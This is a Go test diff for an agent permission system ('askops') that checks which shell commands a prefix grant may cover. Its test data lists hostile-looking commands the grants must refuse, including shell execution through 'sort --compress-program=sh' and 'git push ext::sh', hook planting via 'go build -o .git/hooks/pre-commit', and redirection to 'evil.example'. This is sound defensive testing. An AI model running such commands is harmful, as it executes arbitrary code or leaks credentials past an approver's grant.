@@ -5,6 +5,7 @@ import (
 	"testing"
 
 	"github.com/askops/askops/grants"
+	"github.com/askops/askops/policy"
 )
 
 // A prefix grant on a command that runs code from the workspace grants
@@ -44,14 +45,17 @@ func TestPrefixScopeRefusesWorkspaceCode(t *testing.T) {
 			t.Errorf("PrefixScope(%q): %v, want it to say any code in the workspace would run", p, err)
 		}
 	}
-	ok := []string{
-		"npm ls", "npm view react", "npm outdated", "yarn why lodash", "pnpm list", "go vet", "go vet ./...",
-		"go build ./...", "go list -m all", "go mod tidy", "cargo tree", "cargo metadata", "pip list", "pip show x",
-		"poetry show", "gem list", "git push", "git status", "ls",
-	}
+	ok := []string{"go vet", "go vet ./...", "go build ./...", "go list -m all", "git push", "git status", "ls"}
 	for _, p := range ok {
 		if _, err := grants.PrefixScope(p, "/ws"); err != nil {
 			t.Errorf("PrefixScope(%q) refused: %v", p, err)
+		}
+	}
+	// Package managers' reading subcommands run no workspace code, but
+	// askops has no model of their options: not grantable by prefix.
+	for _, p := range []string{"npm ls", "npm view react", "yarn why lodash", "go mod tidy", "cargo tree", "pip list", "gem list"} {
+		if _, err := grants.PrefixScope(p, "/ws"); err == nil || !strings.Contains(err.Error(), "no model") {
+			t.Errorf("PrefixScope(%q) = %v, want a refusal: askops has no model of it", p, err)
 		}
 	}
 	// Exact-command grants stay possible: the approver saw that command.
@@ -74,10 +78,11 @@ func TestStoredWorkspaceRunnerPrefixCoversNothing(t *testing.T) {
 }
 
 // A prefix grant never covers a command that runs another program through
-// an option (any abbreviation the policy reads) or pushes to a repository
-// on this machine, whose hooks run: the approver granted "git push", not
-// out/r/hooks/pre-receive.
+// an option (any abbreviation the policy reads) or pushes anywhere but a
+// configured remote on another machine: the approver granted "git push",
+// not out/r/hooks/pre-receive, nor a push to any URL.
 func TestPrefixGrantDoesNotCoverCodeOptions(t *testing.T) {
+	repo := gitWorkspace(t, []string{"origin=https://github.com/acme/app.git"})
 	for _, tc := range []struct{ prefix, cmd string }{
 		{"sort", "sort --compress-program=sh x"},
 		{"sort", "sort --comp=out/h x"},
@@ -93,12 +98,14 @@ func TestPrefixGrantDoesNotCoverCodeOptions(t *testing.T) {
 		{"git push", "git push --repo=out/r"},
 		{"git push", "git push ext::sh"},
 		{"git push", "git push fd::3"},
+		{"git push", "git push https://github.com/acme/app feature"},
+		{"git push", "git push git@github.com:acme/app.git feature"},
 	} {
-		s, err := grants.PrefixScope(tc.prefix, "/ws")
+		s, err := grants.PrefixScope(tc.prefix, repo)
 		if err != nil {
 			t.Fatalf("PrefixScope(%q): %v", tc.prefix, err)
 		}
-		if s.Covers(bashCall(tc.cmd, "/ws")) {
+		if s.Covers(policy.Call{Tool: "bash", Command: tc.cmd, Cwd: repo, Workspace: repo}) {
 			t.Errorf("a prefix grant on %q covers %q", tc.prefix, tc.cmd)
 		}
 	}
@@ -106,11 +113,9 @@ func TestPrefixGrantDoesNotCoverCodeOptions(t *testing.T) {
 		{"sort", "sort -u x"},
 		{"go vet", "go vet ./..."},
 		{"git push", "git push origin feature"},
-		{"git push", "git push https://github.com/acme/app feature"},
-		{"git push", "git push git@github.com:acme/app.git feature"},
 	} {
-		s, _ := grants.PrefixScope(tc.prefix, "/ws")
-		if !s.Covers(bashCall(tc.cmd, "/ws")) {
+		s, _ := grants.PrefixScope(tc.prefix, repo)
+		if !s.Covers(policy.Call{Tool: "bash", Command: tc.cmd, Cwd: repo, Workspace: repo}) {
 			t.Errorf("a prefix grant on %q does not cover %q", tc.prefix, tc.cmd)
 		}
 	}
@@ -156,9 +161,6 @@ func TestPrefixGrantDoesNotCoverTargetOptions(t *testing.T) {
 		{"gh pr view", "gh pr view 1 --repo=other/repo"},
 		{"gh pr list", "gh pr list --hostname=evil.example"},
 		{"gh issue list", "gh issue list -Rother/repo"},
-		{"vault read", "vault read secret/x -address=https://evil"},
-		{"vault read", "vault read -tls-skip-verify secret/x"},
-		{"argocd app list", "argocd app list --server evil:443 --insecure"},
 		{"go build", "go build -o .git/hooks/pre-commit ./cmd"},
 		{"go build", "go build -o=/tmp/x ./cmd"},
 		{"go vet", "go vet -json -o=x ./..."},
